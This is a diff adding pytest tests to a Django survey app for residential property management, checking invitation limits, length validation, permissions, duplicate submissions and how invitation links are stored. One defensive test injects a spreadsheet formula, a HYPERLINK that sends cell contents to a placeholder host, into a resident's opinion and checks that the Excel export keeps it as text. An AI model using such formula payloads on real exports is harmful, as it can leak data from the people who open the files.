@@ -244,3 +244,99 @@ def test_common_opinions_group_the_same_opinion_and_skip_bare_words():
     ]
     assert common[1].examples == ["楼道灯不亮，报修好几次了"]  # distinct quotes only
     # 希望 recurs three times but is no opinion (under three characters)
+
+
+# --- bad input: nothing counted past the handed-out number, nothing cut short ------------------
+
+
+def test_links_and_papers_never_exceed_the_number_handed_out(answered, leader):
+    # 10 handed out: 2 papers and 2 links are out, so 6 more at most
+    with pytest.raises(ValidationFailed, match="最多还可增加 6 份") as info:
+        services.invitations_issue(actor=leader, campaign_id=answered.pk, count=7)
+    assert info.value.field == "count"
+    services.invitations_issue(actor=leader, campaign_id=answered.pk, count=6)
+    with pytest.raises(ValidationFailed) as info:
+        services.response_enter(actor=leader, campaign_id=answered.pk, paper_number="P011", answers=row(S))
+    assert info.value.field == "paper_number"
+    assert SurveyResponse.objects.filter(campaign=answered).count() == 4
+    with pytest.raises(ValidationFailed) as info:  # not below what is already out
+        services.campaign_set_audience_size(actor=leader, campaign_id=answered.pk, audience_size=9)
+    assert info.value.field == "audience_size"
+    services.campaign_set_audience_size(actor=leader, campaign_id=answered.pk, audience_size=12)
+    services.response_enter(actor=leader, campaign_id=answered.pk, paper_number="P011", answers=row(S))
+    answered.refresh_from_db()
+    stats = selectors.campaign_stats(answered)
+    assert (stats.response_rate.numerator, stats.response_rate.denominator) == (5, 12)
+
+
+def test_overlong_text_is_refused_naming_the_field_not_cut(property_rules, leader, departments):
+    today = timezone.localdate()
+    with pytest.raises(ValidationFailed) as info:
+        services.campaign_create(actor=leader, title="调" * 121, starts_on=today, ends_on=today, audience="业" * 201,
+                                 audience_size=5, extra_areas="电梯运行" * 11)
+    assert set(info.value.errors) == {"title", "audience", "extra_areas"}
+    assert "最多 120 字，当前 121 字" in info.value.errors["title"][0]
+    campaign = services.campaign_create(actor=leader, title="调查", starts_on=today, ends_on=today, audience="全体业主",
+                                        audience_size=5)
+    with pytest.raises(ValidationFailed) as info:
+        services.item_add(actor=leader, campaign_id=campaign.pk, problem="问" * 2001, measure="措" * 2001,
+                          department_id=departments["city"].pk, due_on=today)
+    assert set(info.value.errors) == {"problem", "measure"}
+    with pytest.raises(ValidationFailed) as info:
+        services.activity_plan(actor=leader, kind="residents_meeting", planned_on=today, place="会" * 121)
+    assert set(info.value.errors) == {"place"}
+    assert not Activity.objects.exists() and not campaign.items.exists()
+
+
+def test_read_only_staff_cannot_mark_an_item_put_right(answered, leader, analyst, departments):
+    item = services.item_add(actor=leader, campaign_id=answered.pk, problem="卫生清扫不及时",
+                             department_id=departments["city"].pk, due_on=timezone.localdate())
+    with pytest.raises(PermissionDeniedError):
+        services.item_done(actor=analyst, item_id=item.pk, note="已整改")
+    item.refresh_from_db()
+    assert item.status == "open"
+
+
+def test_an_opinion_form_sent_twice_registers_one_case(property_rules, leader, client):
+    meeting = services.activity_plan(actor=leader, kind="residents_meeting", planned_on=timezone.localdate())
+    services.activity_record(actor=leader, activity_id=meeting.pk, held_on=timezone.localdate(), attendance=5,
+                             minutes="听取意见 1 条。")
+    client.force_login(leader)
+    page = client.get("/surveys/").content.decode()
+    token = f'-{meeting.pk}"'
+    assert token in page  # the form carries its one-use token
+    form = {"text": "地下车库照明不足", "nature": "suggestion", "intake_token": "a1b2c3-%d" % meeting.pk}
+    first = client.post(f"/surveys/activities/{meeting.pk}/opinion/", form)
+    second = client.post(f"/surveys/activities/{meeting.pk}/opinion/", form)
+    assert first.status_code == second.status_code == 302 and first.url == second.url
+    assert Case.objects.count() == 1 and ActivityOpinion.objects.count() == 1
+
+
+def test_owners_text_lands_in_excel_as_text_never_as_a_formula(campaign, leader):
+    from openpyxl import load_workbook
+
+    services.response_enter(actor=leader, campaign_id=campaign.pk, paper_number="=1+1", answers=row(S),
+                            opinion='=HYPERLINK("http://x.example/?"&B2,"查看")')
+    book = load_workbook(io.BytesIO(report.render_xlsx(campaign, selectors.campaign_stats(campaign))))
+    cells = [c for c in book["答卷"][2]]
+    assert cells[2].value == "=1+1" and cells[2].data_type == "s"
+    assert cells[-1].value.startswith("=HYPERLINK") and cells[-1].data_type == "s"
+
+
+def test_links_are_shown_once_and_kept_nowhere_but_as_hashes(campaign, leader, client):
+    from django.contrib.sessions.models import Session
+
+    client.force_login(leader)
+    response = client.post(f"/surveys/{campaign.pk}/invitations/", {"count": "3"})
+    page = response.content.decode()
+    assert response.status_code == 200 and page.count("/survey/") >= 3
+    tokens = [u.rsplit("/", 2)[-2] for u in __import__("re").findall(r"https?://[^<\s]+/survey/[^<\s/]+/", page)]
+    assert len(tokens) == 3
+    stored = "".join(s.session_data for s in Session.objects.all())
+    assert not any(t in stored for t in tokens)  # not in the session store
+    assert client.get(f"/surveys/{campaign.pk}/").content.decode().count("/survey/") == 0  # shown once
+    for bad in ("²", "99999999999999999999", "1001"):
+        client.post(f"/surveys/{campaign.pk}/invitations/", {"count": bad})
+        assert campaign.invitations.count() == 3
+    page = client.get(f"/surveys/{campaign.pk}/").content.decode()
+    assert 'data-error-for="count"' in page
